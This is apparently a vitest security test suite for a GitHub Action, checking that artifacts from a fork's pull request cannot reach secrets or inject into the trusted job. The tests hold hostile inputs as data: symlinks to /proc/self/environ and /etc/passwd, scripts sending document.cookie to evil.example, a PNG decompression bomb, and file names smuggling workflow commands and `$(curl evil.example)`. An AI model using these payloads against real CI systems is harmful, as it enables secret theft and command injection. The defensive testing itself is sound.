import { mkdir, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import type { Pull } from '../../../github/action/support/bench.ts';
import type { ActionRun } from '../../../support/action.ts';
import { reviewerOf } from '../../../support/factories.ts';
import { runnerCommands } from './support/runner-commands.ts';
import type { Stack } from './support/stack.ts';
import { tally } from './support/table.ts';

const images = { images: 'artifact/**/*.png' };

/** What the untrusted job of a fork’s pull request leaves for the job that has secrets. */
export function artifacts(stack: () => Stack): void {
  /** A fork’s pull request, and a run of the fork that leaves an artifact. */
  async function forked(): Promise<{ pull: Pull; act: (inputs?: Record<string, string>) => Promise<ActionRun> }> {
    const pull = await stack().openForAction({ fork: 'evil' });
    await mkdir(join(pull.workspace, 'artifact'));
    const first = await stack().github.startRun({ repository: pull.repository, pullRequest: pull.number });
    const act = (inputs: Record<string, string> = images) =>
      pull.act({ inputs, event: 'workflow_run', triggeredBy: first.runId });
    return { pull, act };
  }
  const dot = (width = 8, height = 8) =>
    sharp({ create: { width, height, channels: 3, background: 'red' } })
      .png()
      .toBuffer();
  async function expectNothing(pull: Pull): Promise<void> {
    const { reviews } = await pull.client.call('list_reviews', {});
    expect(reviews.filter(({ status }) => status !== 'failed')).toEqual([]);
    expect(await pull.comments()).toEqual([]);
    expect(await stack().github.checks(pull.repository, pull.headSha)).toEqual([]);
  }

  test('files of another type than they claim', async () => {
    const { table } = stack();
    const poisons: ((artifact: string) => Promise<unknown>)[] = [
      (artifact) => symlink('/proc/self/environ', join(artifact, 'a.png')),
      (artifact) => symlink('/etc/passwd', join(artifact, 'a.png')),
      async (artifact) => {
        await writeFile(join(artifact, '../secret.png'), await dot());
        await symlink('../secret.png', join(artifact, 'a.png'));
      },
      async (artifact) => {
        await mkdir(join(artifact, '../private'));
        await writeFile(join(artifact, '../private/a.png'), await dot());
        await symlink('../private', join(artifact, 'shots'));
        await symlink('../private/a.png', join(artifact, 'b.png'));
      },
      (artifact) =>
        writeFile(join(artifact, 'a.png'), '<svg onload="alert(1)"><image href="file:///etc/passwd"/></svg>'),
      (artifact) => writeFile(join(artifact, 'a.png'), '<!doctype html><script>fetch("https://evil.example")</script>'),
      async (artifact) => {
        await writeFile(join(artifact, 'a.png'), '');
        await truncate(join(artifact, 'a.png'), 5_000_000_000);
      },
      // 900 million pixels in a small file.
      async (artifact) => writeFile(join(artifact, 'a.png'), await bomb()),
      async (artifact) => writeFile(join(artifact, 'a.png'), (await dot()).subarray(0, 40)),
      async (artifact) => {
        for (let index = 0; index < 200; index += 1) await writeFile(join(artifact, `${index}.png`), 'x');
      },
      (artifact) => writeFile(join(artifact, 'pr_number'), '1'),
    ];
    const outcomes = await Promise.all(
      poisons.map(async (poison) => {
        const { pull, act } = await forked();
        await poison(join(pull.workspace, 'artifact'));
        const run = await act();
        expect(run.exitCode, run.log).toBe(1);
        expect(run.rawLog).not.toMatch(/root:|PATH=/);
        await expectNothing(pull);
        return `exit ${run.exitCode}`;
      }),
    );
    table.add({
      attack: 'poisoned artifact: files',
      tried:
        'links to the environment, to /etc, out of the folder; SVG, HTML, 5 GB, 900 megapixels, cut off, 200 files, no image',
      variants: poisons.length,
      happened: tally(outcomes),
      after: 'no review, no check, no comment',
    });
  });

  test('an artifact that claims a pull request', async () => {
    const { table, github, openForAction } = stack();
    const victim = await openForAction();
    const { pull, act } = await forked();
    const claims = {
      pr_number: String(victim.number),
      'head.txt': victim.headSha,
      'event.json': JSON.stringify({ pull_request: { number: victim.number, head: { sha: victim.headSha } } }),
      'sightline.json': JSON.stringify({ review_id: 'x', name: 'required', app: 'none', link: 'direct' }),
    };
    for (const [name, text] of Object.entries(claims)) await writeFile(join(pull.workspace, 'artifact', name), text);
    await writeFile(join(pull.workspace, 'artifact/a.png'), await dot());
    const run = await act();
    expect(run.exitCode, run.log).toBe(0);
    expect(await pull.review(run)).toMatchObject({
      reference: `github:${pull.repositoryId}:${pull.number}:visual`,
      revision: pull.headSha,
    });
    // GitHub states the run that triggered it. An invented one fails the job.
    const made = await pull.act({ inputs: images, event: 'workflow_run', triggeredBy: 987_654_321 });
    expect(made.exitCode).toBe(1);
    const other = await github.startRun({ repository: victim.repository, pullRequest: victim.number });
    const foreign = await pull.act({ inputs: images, event: 'workflow_run', triggeredBy: other.runId });
    expect(foreign.exitCode).toBe(1);
    await stack().idle();
    await expectNothing(victim);
    const checks = await github.checks(pull.repository, pull.headSha);
    expect(checks.map(({ name, conclusion }) => [name, conclusion])).toEqual([['Sightline / visual', null]]);
    table.add({
      attack: 'poisoned artifact: another pull request, head or name',
      tried: 'in files of the artifact; a triggering run that was made up, and one of another repository',
      variants: Object.keys(claims).length + 2,
      happened: `reviewed as its own; exit ${made.exitCode}, exit ${foreign.exitCode}`,
      after: 'one check on its own head, waiting; nothing on the victim’s',
    });
  });

  test('names of files with commands, HTML and mentions', async () => {
    const { table, github } = stack();
    const { pull, act } = await forked();
    const names = [
      'a\n::error::Broken in\n::add-mask::e',
      'b\r::set-output name=status::approved',
      '::stop-commands::x',
      ' ::set-env name=PATH::x',
      '<img src=x onerror=alert(1)>',
      '@acme-everybody [look](https:evil.example)',
      '`$(curl evil.example)`',
      'safe\u202egnp',
      // Those after the fifth are named in the log.
      ...['##[add-mask]e', '##[error]x', 'x ##[set-output name=review-url]evil', 'x##[stop-commands]y'],
      ...['\u2028::warning::x', '%0A::error::x', '~|a|~'],
    ].map((name, index) => (index < 8 ? name : `z${name}`));
    for (const name of names) await writeFile(join(pull.workspace, 'artifact', `${name}.png`), await dot());
    const run = await act();
    expect(run.exitCode, run.log).toBe(0);
    const commands = runnerCommands(run.rawLog);
    expect(commands.filter(({ name, form }) => form !== '::' || !/^(end)?group$|^notice$|^debug$/.test(name))).toEqual(
      [],
    );
    expect(run.secrets).not.toContain('e');
    const declared = ['baseline-id', 'changed', 'changes', 'pass', 'review-id', 'review-url', 'reviews', 'status'];
    expect(Object.keys(run.outputs).sort()).toEqual(declared);
    await stack().idle();
    const [comment, ...others] = await pull.comments();
    expect(others).toEqual([]);
    const checks = await github.checks(pull.repository, pull.headSha);
    for (const text of [run.summary, comment?.body ?? '', JSON.stringify(checks)]) {
      expect(text.replace(/<!--.*?-->/g, '')).not.toMatch(/onerror=alert\(1\)>|@acme|\]\(https:evil|\u202e/);
    }
    const { review } = await reviewerOf(await pull.review(run)).call('read_review', {});
    expect(review.screenshots).toHaveLength(names.length);
    expect(review.screenshots.map(({ label }) => label).join('')).not.toMatch(/[\n\r\u202e\u2028]/);
    table.add({
      attack: 'poisoned artifact: names',
      tried: 'workflow commands in both forms, line ends, HTML, mentions, shell, bidi',
      variants: names.length,
      happened: `labels and nothing else: ${commands.length} commands in the log, all of them the Action’s own`,
      after: 'check waiting, one comment, outputs as declared',
    });
  });

  test('pages of a fork beside the secrets', async () => {
    const { table } = stack();
    const { pull, act } = await forked();
    await mkdir(join(pull.workspace, 'out'));
    const steal = '<script>fetch("https://evil.example/?" + document.cookie)</script>';
    await writeFile(join(pull.workspace, 'out/index.html'), steal);
    await writeFile(join(pull.workspace, 'out/index.json'), '{"v":5,"entries":{}}');
    const runs = [await act({ dir: 'out' }), await act({ storybook: 'out' })];
    for (const run of runs) expect(run.log).toContain('this run has secrets, and the pull request comes from a fork');
    // The other job has neither a token nor an id-token.
    const noIdToken = { ACTIONS_ID_TOKEN_REQUEST_URL: '', ACTIONS_ID_TOKEN_REQUEST_TOKEN: '' };
    await writeFile(join(pull.workspace, 'artifact/a.png'), await dot());
    const untrusted = await pull.act({ inputs: { ...images, token: '' }, env: noIdToken });
    expect(untrusted.outputs.status).toBe('skipped');
    await expectNothing(pull);
    table.add({
      attack: 'a fork’s pages run beside secrets',
      tried: '`dir` and `storybook` in the trusted half; the untrusted half without secrets',
      variants: 3,
      happened: tally([...runs.map(({ exitCode }) => `exit ${exitCode}`), `${untrusted.outputs.status}`]),
      after: 'no review, no check, no comment',
    });
  });

  /** Returns a real PNG whose header claims 30,000 × 30,000 pixels. */
  async function bomb(): Promise<Buffer> {
    const bytes = await dot();
    bytes.writeUInt32BE(30_000, 16);
    bytes.writeUInt32BE(30_000, 20);
    bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29);
    return bytes;
  }
}
